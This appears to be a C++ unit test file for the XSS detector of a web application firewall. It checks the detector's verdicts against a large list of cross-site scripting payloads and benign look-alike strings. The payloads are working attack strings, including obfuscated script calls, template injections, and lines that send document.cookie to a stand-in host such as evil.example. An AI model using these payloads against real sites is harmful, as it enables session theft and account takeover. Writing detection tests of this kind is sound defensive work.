#include <gtest/gtest.h>

#include "detect/core/bytes.h"
#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

struct Row {
  const char* text;
  const char* verdict;
};

constexpr Row kAttacks[] = {
    {"';globalThis[8680439..toString(30)](1)//", "balanced"},
    {"';window[Object.keys(window).find(k=>/^ale/.test(k))](1)//", "balanced"},
    // Elements
    {"<script>steal()</script>", "low"},
    {"<ScRiPt src=//evil.example/x.js></sCrIpT>", "low"},
    {"<script/x=1 src='//evil.example'>", "low"},
    {"</title><svg><script>1</script>", "balanced"},
    {"<svg:script href=data:,alert(1) />", "low"},
    {"<base href=//evil.example/>", "balanced"},
    {"<object data=//evil.example/m.swf type=text/html></object>", "balanced"},
    {"<embed src=//evil.example/m.swf>", "balanced"},
    {"<meta http-equiv=refresh content='0;url=//evil.example'>", "balanced"},
    {"<meta charset=utf-7>", "balanced"},
    {"<iframe srcdoc='<p>x'></iframe>", "low"},
    // Handlers
    {"<img src=x onerror=alert(1)>", "low"},
    {"<img/src=x\tonerror\n=\nconfirm`1`>", "low"},
    {"<details open ontoggle=import('//evil.example')>", "low"},
    {"<anything onwebkitnewthing=prompt(2)>", "low"},
    {"<b onbeforeinput=eval(name) contenteditable>x", "low"},
    {"<x onclick=location=name>", "low"},
    {"<body onload=\"top['al'+'ert'](1)\">", "low"},
    {"<input autofocus onfocus=x>", "balanced"},
    {"<svg onload=&#97;lert(1)>", "low"},
    {"\" onmouseover=\"alert(1)", "balanced"},
    {"x' onfocus=alert(1) autofocus y='", "balanced"},
    {"javascript onpointerenter=confirm(1) ' ", "balanced"},
    {"onmouseover='new Image().src=\"//evil.example\"'", "balanced"},
    {"onfocus='location=\"//evil.example\"'", "balanced"},
    {"x onerror=\"fetch('//evil.example')\"", "balanced"},
    {"onclick=\"submit()\"", "strict"},
    {"we set onload='new Image().src=\"/a.png\"' on the page", "strict"},
    // URLs
    {"<a href=javascript:alert(1)>x</a>", "low"},
    {"<a href=\" \x01JaVa\tScRiPt\n:alert(1)\">x</a>", "low"},
    {"<a href='&#x6a;avascript&colon;alert(1)'>x</a>", "low"},
    {"<form><button formaction=vbscript:msgbox(1)>", "low"},
    {"<svg><animate attributeName=href values='x;javascript:alert(1)'>", "low"},
    {"<iframe src='data:text/html;base64,PHNjcmlwdD4='>", "balanced"},
    {"<use href='data:image/svg+xml,x#y'>", "balanced"},
    {"javascript:alert(document.cookie)", "low"},
    {"  jav\tascript:fetch('//evil.example/'+document.cookie)", "low"},
    {"data:text/html,<p>x", "balanced"},
    {"[click](javascript:alert(1))", "balanced"},
    // Style
    {"<div style='width:exp/**/ression(alert(1))'>", "balanced"},
    {"<p style=\"background:url('javascript:alert(1)')\">", "balanced"},
    {"<style>b{-moz-binding:url(//evil.example/x.xml#y)}</style>", "balanced"},
    // Directives of libraries
    {"\" @click=\"alert(1)", "balanced"},
    {"\" v-on:click=\"alert(1)", "balanced"},
    {"' x-init='alert(1)", "balanced"},
    {"\" hx-on:load=\"alert(1)", "balanced"},
    {"\" ng-focus=$event.view.alert(1) autofocus x=\"", "balanced"},
    {"\" :title=\"constructor.constructor('x()')()", "balanced"},
    {"<p data-bind='text: alert(1)'>", "balanced"},
    {"<p hx-trigger='load[alert(1)]' hx-get=/>", "balanced"},
    {"<p data-on-load=alert(1)>", "balanced"},
    // Behind what closes a value of the page
    {"\"><form action=//evil.example>", "balanced"},
    // Script in what the application wrote around the string: objects, lists
    {"',toString:alert,x:'", "balanced"},
    {"\",onclick:confirm,\"", "balanced"},
    {"',...eval(name),'", "balanced"},
    {"',get x(){alert(1)},y:'", "balanced"},
    {"',toString(){alert(1)},y:'", "balanced"},
    {"';for(location of['//evil.example']);'", "balanced"},
    {"';for(top.location of[name]);//", "balanced"},
    {"document['coo'+'kie']", "balanced"},
    {"document[`co${'ok'}ie`]", "balanced"},
    // Script that leaves a string
    {"';alert(1)//", "balanced"},
    {"\"-prompt(1)-\"", "balanced"},
    {"\\';confirm(1)//", "balanced"},
    {"*/alert(1)/*", "balanced"},
    {"\"}]};alert(1);//", "balanced"},
    {"${alert(1)}", "balanced"},
    {"'+fetch('//evil.example/'+document.cookie)+'", "balanced"},
    {"'^alert(1)^'", "balanced"},
    {"');document.write('<i>", "balanced"},
    // Script by itself
    {"alert(1)", "balanced"},
    {"(0,eval)('1')", "balanced"},
    {"alert?.(1)", "balanced"},
    {"setTimeout`alert\\x281\\x29`", "balanced"},
    {"location='javascript:alert\\x281)'", "balanced"},
    {"[1].map(alert)", "balanced"},
    {"onerror=alert;throw 1", "balanced"},
    {"x=eval;x('1')", "balanced"},
    {"new Function('a')()", "balanced"},
    {"Reflect.apply(alert,null,[1])", "balanced"},
    {"Reflect.construct(Function,['alert(1)'])()", "balanced"},
    {"[1].map(alert,1)", "balanced"},
    // Hidden
    {"window['al'+'ert'](1)", "balanced"},
    {"top[/al/.source+/ert/.source](1)", "balanced"},
    {"self['\\x61\\x6c\\x65rt'](1)", "balanced"},
    {"frames[`ev`+`al`]('1')", "balanced"},
    {"this[/*a*/'alert'/*b*/](1)", "balanced"},
    {"\\u0061lert(1)", "balanced"},
    {"this.constructor.constructor", "balanced"},
    {"width: expression(alert(1))", "balanced"},
    {"-moz-binding:url(//a.example/a.xml#a)", "balanced"},
    {"behavior: url(a.htc)", "balanced"},
    {"@import url(//a.example/a.css);", "balanced"},
    {"red}*{background:url(//a.example/a)}", "balanced"},
    {"[]['fill']['constructor']('alert(1)')()", "balanced"},
    {"''.sub.constructor('alert(1)')()", "balanced"},
    {"constructor.constructor('alert(1)')()", "balanced"},
    {"{}.__proto__.constructor.constructor('alert(1)')", "balanced"},
    {"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]", "balanced"},
    {"window?.[\"\\u0061lert\"]?.(1)", "balanced"},
    {"self?.['al'+'ert']?.(1)", "balanced"},
    {"x?.['\\x61lert'](1)", "balanced"},
    {"atob.constructor(atob`YWxlcnQoMSk`)()", "balanced"},
    {"''.sub.constructor(name)()", "balanced"},
    {"$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$]}", "balanced"},
    {"_=[];_$=(!_+'')[_.$];__=([][[]]+'')[1];___=({}+'')[5]", "balanced"},
    {"゚ω゚ﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(゚ｰ゚)  =_=3; c=(゚Θ゚)", "balanced"},
    // Templates
    {"<div ng-app ng-csp><input ng-focus=$event.view.alert(1)>", "balanced"},
    {"{{constructor.constructor('alert(1)')()}}", "balanced"},
    {"{{$on.constructor('alert(1)')()}}", "balanced"},
    {"{{_c.constructor('alert(1)')()}}", "balanced"},
    {"<div v-html=\"alert(1)\"></div>", "balanced"},
    {"document.cookie", "balanced"},
    {"(document)['cookie']", "balanced"},
    {"(document/*x*/)['cookie']", "balanced"},
    {"document.querySelector('p').textContent='x'", "balanced"},
    // Markup that readers other than today's browsers run
    {"<v:vmlframe src='//evil.example/x.vml'/>", "balanced"},
    {"<?xml-stylesheet href='//evil.example/x.xsl'?>", "balanced"},
    {"<t:set attributeName='innerHTML' to='x'>", "balanced"},
    {"<style>@\\0069mport '//evil.example'</style>", "balanced"},
    {"<p style='width:e\\78 pression(alert(1))'>", "balanced"},
    {"\xbcscript\xbe"
     "alert(1)\xbc/script\xbe",
     "low"},
    {"\xc2\xbcscript\xc2\xbe"
     "alert(1)",
     "low"},
    {"javascript:\\u0061", "low"},
    {"background:url(javascript", "balanced"},
    {"alert\xc2\xa0(1)", "balanced"},
    {"<object/data=//evil.example onwebkitnewthing=prompt(2)>", "low"},
    {"<link rel=stylesheet type=text/javascript href=x.js>", "balanced"},
    {" onclick=1", "strict"},
    {"<a href='x'", "strict"},
};

// Probes: the whole value is the expression, or it is prose.
constexpr Row kWholeValues[] = {
    {"<iframe src=//evil.example></iframe>", "balanced"},
    {"\"><iframe/src='https://evil.example'>", "balanced"},
    {"</textarea><iframe src=//evil.example>", "balanced"},
    {"<style>input[value^='a']{background:url(//evil.example/a)}</style>", "balanced"},
    {"</style><style>*{background:url( \"https://evil.example\")}", "balanced"},
    {"eval() is evil; don't call exec() or system() with user input.", "recorded"},
    {"see <iframe src=https://video.example/1>", "strict"},
    {"<?import implementation='#default#time2'>", "balanced"},
    {"<link rel=stylesheet href=//evil.example/a.css>", "balanced"},
    {"self[atob('YWxlcnQ=')](1)", "balanced"},
    {"fetch('//evil.example/?c='+document.cookie)", "balanced"},
    {"new Image().src='//evil.example/?'+document.cookie", "balanced"},
    {"<div hx-on:click=\"alert(1)\">", "balanced"},
    {"list[atob(x)]", "recorded"},
    {"<script type=\"application/ld+json\">{\"@type\":\"Product\"}</script>", "strict"},
    {"<script type='application/json'></script><script>f()</script>", "low"},
    {"<script type=\"application/json\" src=//evil.example></script>", "low"},
    {"<script type=module>f()</script>", "low"},
    {"window.location", "recorded"},
    {"self.document", "recorded"},
    {" top.location.cookie; ", "recorded"},
    {"atob()", "-"},
    {"btoa(1);", "recorded"},
    {"event.location", "-"},
    {"window.location x", "-"},
    {"page.location", "-"},
    {"fetch()", "strict"},
};

constexpr Row kBenign[] = {
    {"items[getIndex()](1); list[0](2)", "-"},
    {"<link rel=\"canonical\" href=\"https://shop.example/\">", "-"},
    {"`<img src={url} onError={() => setBroken(true)} />` needs a text", "-"},
    {"<p>Hello <b>world</b>, <a href=\"https://shop.example/a?b=c\">here</a> is <i>it</i>.</p>", "-"},
    {"<img src=\"https://cdn.example/a.png\" alt=\"a cat\">", "-"},
    {"<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "-"},
    {"<a href=\"javascript:void(0);\" class=\"x\">menu</a>", "-"},
    {"<table border=1><tr><td style=\"color:red\">1</td></tr></table>", "-"},
    {"<custom-element only=\"1\" once ontology=x>", "-"},
    {"I <3 this; a < b && c > d", "-"},
    {"if (a<b || c>d) return", "-"},
    {"x <y and z> w", "-"},
    {"Please alert (all) the staff and confirm (today).", "-"},
    {"He said \"alert the press\" and 'confirm it'.", "-"},
    {"The eval was fine, open (daily) from 9", "-"},
    {"Hello {{name}}, your total is ${price}.", "-"},
    {"{{ user.first_name | capitalize }}", "-"},
    {"<span>{{ item.count + 1 }}</span>", "-"},
    {"JavaScript: The Good Parts", "-"},
    {"JavaScript: the good parts (2nd edition)", "-"},
    {"data: text, html and more", "-"},
    {"see location = London; time = noon", "-"},
    {"{\"type\":\"click\",\"items\":[[1,2],[3,4]],\"fn\":null}", "-"},
    {"users[0][name]", "-"},
    {"window.open", "-"},
    {"## Use\n```js\nconst a = items.map(x => x.id);\n```\n", "-"},
    {"function add(a, b) { return a + b; }", "-"},
    {"class A { constructor(props) { super(props); this.x = props.x; } }", "-"},
    {"e.prototype.constructor=e", "-"},
    {"a regular expression (see the manual): behavior of it", "-"},
    {"body{color:red} a{background:url(/a.png)}", "-"},
    {"@import in CSS", "-"},
    {"O'Brien and D'Angelo", "-"},
    {"10' x 12' [wood]", "-"},
    {"- [ ] todo - [x] done [](x)", "-"},
    {"+1 (555) 123-4567", "-"},
    {"Größe: 5\" x 7\"; élan", "-"},
    {"请确认(1) 谢谢", "-"},
    {"தமிழ் host & alert (37)", "-"},
    {"blue light & alert (37)", "-"},
    {"union && delete || alert (╯°□°)╯", "-"},
    {"wait for && delete || alert (╯°□°)╯", "-"},
    {"a[b]=c&d[e]=f", "-"},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 "
     "Safari/537.36",
     "-"},
    {"[[],[],{}]", "-"},
    {"<table><tbody><tr onclick=\"\">x</tr></tbody></table>", "-"},
    {"The constructor's prototype property: obj.constructor.prototype vs __proto__, which one?", "-"},
    {"(╯°□°)╯︵ ┻━┻ = [table] / ¯\\_(ツ)_/¯", "-"},
    {"价格 = [1]; 数量 = (2) [3]", "-"},
    {"{\"1\":[],\"2\":[\"++\"],\"3\":[[]]}", "-"},
    {"/[\"'][^\"']+[\"']/", "-"},
    {"Reflect.apply(f, null, [1])", "-"},
    {"<iframe src=\"https://video.example/embed/1\" width=560></iframe>", "-"},
    {"<span ng-click=\"save($event)\">x</span>", "-"},
    {"new this.constructor(options).run()", "-"},
    {"background: url(/img/a.png)", "-"},
    {"Map<String, List<Integer>> m = new HashMap<>();", "-"},
    {"std::vector<int> v; if (a < b) { c(); }", "-"},
    {"I <3 you <b", "-"},
    {"version=1&session=2&region=on&once=3", "-"},
    {"<T n=\"1\"><Events/></T>", "-"},
    {"the top[1] and the content[2] of document.pdf", "-"},
    {"*/*;q=0.8, text/html", "-"},
    {"{\"a\":[[],[]],\"b\":[[1],{}]}", "-"},
    {"<div ng-bind=\"user.name\" :class=\"{a: b}\" v-if=\"ok\">x</div>", "-"},
    {"😀 <- that's it -> ok", "-"},
    {"typescript: a language; script: a text", "-"},
    {"confirm (yes/no)", "-"},
    {"fetch (dog)", "-"},
    {"alert (all of them)", "-"},
    {"The handler is set as `onclick=\"save()\"`; can we move it?", "-"},
    {"I don't see why onclick=\"save()\" does nothing", "-"},
    {"My \"save\" button: should onclick=\"save(form)\" be used?", "-"},
    {"The button has @click=\"save\" and :disabled=\"busy\" in Vue.", "-"},
    {"he said 'no', then (later) 'yes', and went", "-"},
    {"Set {'success': done, 'error': fail} and pass 'GET', 'POST', ...rest", "-"},
    {"{'a': len(x), 'b': 2}", "-"},
    {"the keys 'x', get y, 'z'", "-"},
    {"<form action=\"https://lists.example/subscribe\" method=\"post\"><input name=\"mail\"></form>", "-"},
};

TEST(Xss, AttacksInAQuery) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const Row& row : kAttacks) EXPECT_EQ(verdict_of(analyzer, row.text), row.verdict) << row.text;
}

TEST(Xss, WholeValues) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const Row& row : kWholeValues) EXPECT_EQ(verdict_of(analyzer, row.text), row.verdict) << row.text;
}

// In a body, where rich text has elements that load.
TEST(Xss, BreakOutsInABody) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const char* text : {"\"><iframe src=//evil.example>", "'><form action='//evil.example'>",
                           "--><iframe src=//evil.example>", "</textarea><iframe src=https://evil.example>",
                           "<script src=\"data:&comma;alert(1)//", "<script src='//evil.example/a.js?"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody))) << text;
}

TEST(Xss, BenignTextInABody) {
  const Analyzer& analyzer = analyzer_named("xss");
  const char* quoted = "> <iframe src=\"//video.example/embed/x\"></iframe> shows nothing here";
  EXPECT_EQ(verdict_of(analyzer, quoted, Location::kBody), "-");
  for (const Row& row : kBenign)
    EXPECT_EQ(verdict_of(analyzer, row.text, Location::kBody), row.verdict) << row.text;
}

TEST(Xss, BenignTextInAQueryPassesAtBalanced) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const Row& row : kBenign) EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, row.text))) << row.text;
}

TEST(Xss, WholeDocumentsAreForStrict) {
  const Analyzer& analyzer = analyzer_named("xss");
  std::string page = "<!DOCTYPE html>\n<html><head><meta charset=utf-8><title>t</title>";
  page += "<link rel=stylesheet href=a.css></head><body>" + std::string(300, 'x');
  page += "<script>const app = document.getElementById('app');</script></body></html>";
  EXPECT_EQ(verdict_of(analyzer, page, Location::kBody), "balanced");
  EXPECT_EQ(verdict_of(analyzer, page, Location::kQuery), "low");
  page.insert(page.find("xxx"), 1024, 'x');
  EXPECT_EQ(verdict_of(analyzer, page, Location::kBody), "strict");
  page += "<script>alert(document.cookie)</script>";
  EXPECT_EQ(verdict_of(analyzer, page, Location::kBody), "low");
}

TEST(Xss, FileContentIsForStrict) {
  const Analyzer& analyzer = analyzer_named("xss");
  EXPECT_EQ(verdict_of(analyzer, "<script>alert(1)</script>", Location::kFile), "strict");
  EXPECT_EQ(verdict_of(analyzer, "<script>alert(1)</script>", Location::kFile, true), "low");
}

// Lists of files show names in pages and in scripts.
TEST(Xss, NamesOfFiles) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const char* text :
       {"\" onmouseover=alert(1) x=\".png", "x' onfocus=alert(1) autofocus='.png", "'-alert(1)-'.png",
        "';alert(1)//.png", "${alert(1)}.png", "<img src=x onerror=alert(1)>.png", "javascript:alert(1)",
        "<p style=x:expression(alert(1))>.png", "{{constructor.constructor('alert(1)')()}}.png"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kFile, true))) << text;
  for (const char* text :
       {"it's (1).png", "O'Neil & Sons - v2.pdf", "'90s - mix(1).mp3", "Rock 'n' Roll - live(2).mp3",
        "a's-b(c)-d's.png", "confirm(2).pdf", "print(1).pdf", "window.location.js", "{{template}}.html",
        "${name}.txt", "[...slug].js", "'Best of' - (2001) - 'Live'.mp3", "don't; really.txt",
        "jane's=copy(2).xls"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kFile, true))) << text;
}

TEST(Xss, ScriptInAnUploadedImage) {
  const Analyzer& analyzer = analyzer_named("xss");
  FieldContext context;
  context.location = Location::kFile;
  context.media = true;
  constexpr Row kRows[] = {
      {"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "balanced"},
      {"<svg><script>fetch('//e.example')</script></svg>", "balanced"},
      {"<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "balanced"},
      {"<svg><style>@import url(https://fonts.example/a.css);.a{fill:url(#g)}</style><path d='M0 0'/></svg>",
       "strict"},
      {"<svg><path d='M0 0'/><use href='#a'/></svg>", "-"},
  };
  for (const Row& row : kRows) EXPECT_EQ(verdict_in(analyzer, row.text, context), row.verdict) << row.text;
}

// Case, white space and separators that a browser does not care about.
std::string respell(std::string_view text, Dice& dice) {
  std::string out;
  bool in_tag_name = false;
  for (const char c : text) {
    if (c == '<') in_tag_name = true;
    if (in_tag_name && is_alpha(c)) {
      out.push_back(dice.roll(2) == 0 ? static_cast<char>(is_lower(c) ? c - 32 : c) : c);
      continue;
    }
    if (c == ' ' && in_tag_name) {
      out += std::string_view("\t\n\f\r /", 6)[dice.roll(6)];
      in_tag_name = false;
      continue;
    }
    if (c == '>') in_tag_name = false;
    out.push_back(c);
  }
  return out;
}

// Elements that load or send stand at the beginning of a value of one line with what they load; a sentence
// names them.
TEST(Xss, ElementsThatLoad) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const std::string_view text : {"<xml id=a>", "\"><form action=/a>", "<set attributeName=x to=y>",
                                      "</b><svg xmlns='http://www.w3.org/2000/svg'>"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "balanced") << text;
  for (const std::string_view text : {"<form>", "where does <input type=file> go", "a <select name=b>"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "strict") << text;
  for (const std::string_view text : {"<s c r i p t>x", "a <i f r a m e", "<f o r m"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "strict") << text;
  for (const std::string_view text : {"<a b c", "x <f or m", "<s c r i p t s", "<s p a n>", "1 <i x"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "-") << text;
  EXPECT_EQ(verdict_of(analyzer, "<xml id=a>", Location::kQuery, false, "q"), "strict");
  EXPECT_EQ(verdict_of(analyzer, "<form action=/a>", Location::kBody, false, "v"), "-");
}

// Pieces that do nothing by themselves, in a form that only somebody who hides or probes writes.
TEST(Xss, HiddenSchemesTornTagsAndSigns) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const std::string_view text :
       {"ja\tvascript:", "vbs\ncript:x", "[]+[]", "(![] [])[ ! []]", "+[]+{}+[]"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
  for (const std::string_view text : {"<embed ", "<object"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "strict") << text;
  for (const std::string_view text :
       {"javascript:", "[ ] [x] todo", "[]", "{}", "[[], []]", "a <b", "<3 + <4", "(!)"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
}

// A quote that the text did not open, and what HTML has behind a quoted value: the text leaves its place in
// the page.
TEST(Xss, ClosedContexts) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const std::string_view text : {"\" class=\"x", "x' id='y", "\" style=\"color:red", "7\"/data-x='1",
                                      "\" class=x", "\">", "x'/>", "\"><b>new</b>"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "strict") << text;
  for (const std::string_view text :
       {"a 7\" screen", "\"mode\" and \"size\"", "it's a = b", "x == 'y' and z",
        "{job=\"a\", instance=\"b\"}", "5' > 4", "msg=\" level=warn user=x\"", "\"/a=1\"", "--set \"/a=b\"",
        "7\" brand=Sony", "customers' name=Bob", ".a | select(.b == \"/x=1\")", "say \"yes\" == no"})
    EXPECT_EQ(verdict_of(analyzer, text, Location::kQuery, false, "v"), "-") << text;
  // Elements that nobody knows, with attributes, as the known ones.
  EXPECT_EQ(verdict_of(analyzer, "<made-up id=x>", Location::kQuery, false, "v"), "strict");
  EXPECT_EQ(verdict_of(analyzer, "List<made-up id=x>", Location::kQuery, false, "v"), "-");
  EXPECT_EQ(verdict_of(analyzer, "\" class=\"x", Location::kBody, false, "v"), "-");
}

// Each was run by Chromium.
TEST(Xss, WhatBrowsersReadOtherwise) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const std::string_view text :
       {"<!--</a x=\"--><script src=//evil.example></script>",
        "<title></a x=\"</title><script src=//evil.example></script>",
        "<style></a x=\"</style><script src=//evil.example></script>",
        "<a href=\"javascript:''-alert(1)\">x</a>", "<a href=\"javascript:0<alert(1)\">x</a>",
        "<iframe src=\"javascript:''+alert(1)\">",
        "<form action=\"javascript:''-alert(1)\"><input type=submit>",
        "<img src=` onerror=fetch('//evil.example/'+document.cookie) alt=`>",
        "<meta x=` http-equiv=refresh content=0;//evil.example y=`>", "\" src=//evil.example \"",
        "\" formaction=//evil.example \"", "\" action=//evil.example \"", "\" data=//evil.example \"",
        "\" srcdoc=x \""})
    for (const Location location : {Location::kQuery, Location::kBody})
      EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
  for (const std::string_view text :
       {"<a href=\"javascript:void(0)\">x</a>", "<a href=\"javascript:;\">x</a>",
        "<a href=\"javascript:''\">x</a>", "<b title=`x`>y</b>", "\" a=b \"", "say \"x=1\"", "7\" screen=x",
        "<img width=\"5\" src=\"http://a.example/b.png\">"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody, false, "v"))) << text;
}

// A query has no room for a document, however long it is.
TEST(Xss, LongQueriesAreNoDocuments) {
  const Analyzer& analyzer = analyzer_named("xss");
  std::string words;
  while (words.size() < 1100) words += "word" + std::to_string(words.size()) + ' ';
  for (const std::string_view text :
       {"x\" onfocus=alert(1) autofocus x=\"", "<style>@import'//evil.example'</style>"})
    EXPECT_TRUE(
        denied_at_balanced(verdict_of(analyzer, words + std::string(text), Location::kQuery, false, "v")))
        << text;
}

// Attributes behind a quote, wherever they stand there, and what those of libraries ask for.
TEST(Xss, AttributesThatBringIn) {
  const Analyzer& analyzer = analyzer_named("xss");
  for (const std::string_view text :
       {"\" x src=//evil.example \"", "\" class=a src=//evil.example \"", "\"src=//evil.example \"",
        "\" src = //evil.example \"", "\" src=/\\evil.example \"", "1\" src=\"//evil.example/x.js",
        "\" rel=stylesheet href=//evil.example \"", "0;url=//evil.example\" http-equiv=\"refresh",
        "//evil.example/\" rel=stylesheet x=\"", "\" style=background:url(//evil.example) \"",
        "<x hx-get=//evil.example hx-trigger=load>", "<x ng-include=\"'//evil.example'\">",
        "<!-- ko text:alert(1) -->", "<x click.trigger=\"$this.constructor.constructor('alert(1)')()\">",
        "<x ng:click=\"$event.view.alert(1)\">", "<iframe src=file:///etc/passwd>",
        "a=\" src=//evil.example/", "5'11\" src=\"//evil.example/",
        "<link rel=attachment href=file:///etc/passwd>"})
    for (const Location location : {Location::kQuery, Location::kBody})
      EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
  // In rich text they are an author's own.
  for (const std::string_view text :
       {"<x hx-post=/a hx-trigger=load>", "<a data-remote=true href=/a>", "<a data-method=delete href=/a>",
        "<x _=\"on load call f()\">", "<x wire:init=f>", "<x phx-click=f>",
        "<form action=//a.example><input name=password>", "<turbo-frame src=//a.example>"}) {
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody, false, "v"))) << text;
  }
  for (const std::string_view text :
       {"say \"x=1\" y=2", "[video width=\"640\" src=\"https://a.example/b.mp4\"]", "\"src=//cdn.example\"",
        "don't click href=https://a.example", "<p><img src=\"file:///var/folders/a/T/x.png\"></p>",
        "el.html(\" src=//cdn.example/x\");", "var a = \" src=//cdn.example/a.js\";",
        "see \"a\" href=https://a.example/", "<div data-bind>", "a=\"x\" src=\"https://a.example\"",
        "\"quoted\" and more style=\"color:red\""})
    for (const Location location : {Location::kQuery, Location::kBody})
      EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
}

// Elements of HTML that show code do not keep a browser from reading what stands in them.
TEST(Xss, MarkupInsideOfQuotingElements) {
  const Analyzer& analyzer = analyzer_named("xss");
  const std::string prose =
      "Dear colleagues, the page for the orders of the month is made by a template which the team has kept "
      "for years without a change. It reads all the orders, and nobody remembers why the second column is "
      "there at all. Please look at it, and tell me whether the text is right.";
  const auto page = [&](std::string_view inner) {
    return prose + "\n\n" + std::string(inner) + "\n\n" + prose;
  };
  for (const std::string_view inner :
       {"<pre><script>alert(1)</script></pre>", "<pre>\n<script>alert(1)</script>\n</pre>",
        "<code class=\"x\">\n<img src=x onerror=alert(document.domain)>\n</code>",
        "<samp>\n<svg onload=alert(1)>\n</samp>"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, page(inner), Location::kBody, false, "v"))) << inner;
  for (const std::string_view inner :
       {"```\n<script>alert(1)</script>\n```", "<code html>\n<script>alert(1)</script>\n</code>",
        "<pre>\n&lt;script&gt;alert(1)&lt;/script&gt;\n</pre>",
        "<pre>\n&lt;img src=a onerror=\"this.remove()\"&gt;\n</pre>"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, page(inner), Location::kBody, false, "v"))) << inner;
}

TEST(Xss, VariationsStayDenied) {
  const Analyzer& analyzer = analyzer_named("xss");
  std::size_t made = 0;
  for (const Row& row : kAttacks) {
    if (std::string_view(row.verdict) == "strict") continue;
    for (std::uint64_t seed = 1; seed <= 8; ++seed) {
      Dice dice(seed);
      const std::string base = respell(row.text, dice);
      // Behind a call stands no word, but behind markup and what has left its string may stand anything.
      const bool leaves = base.find_first_of("'\"*") == 0 && !base.starts_with("''");
      const bool script = base.find('<') == std::string::npos && !leaves && !base.starts_with("${");
      for (const std::string& text : {base, "1234 " + base, "\n" + base, base + (script ? ";x" : " x")}) {
        // A payload that must stand at the start of a value does not work behind a prefix.
        const bool prefixed = text.size() > base.size() && text.front() == '1';
        if (prefixed && (base.find('<') == std::string::npos || base.starts_with("data:"))) continue;
        EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text))) << row.text << " as " << text;
        ++made;
      }
    }
  }
  EXPECT_GT(made, 1000u);
}

}  // namespace
}  // namespace wafd::detect
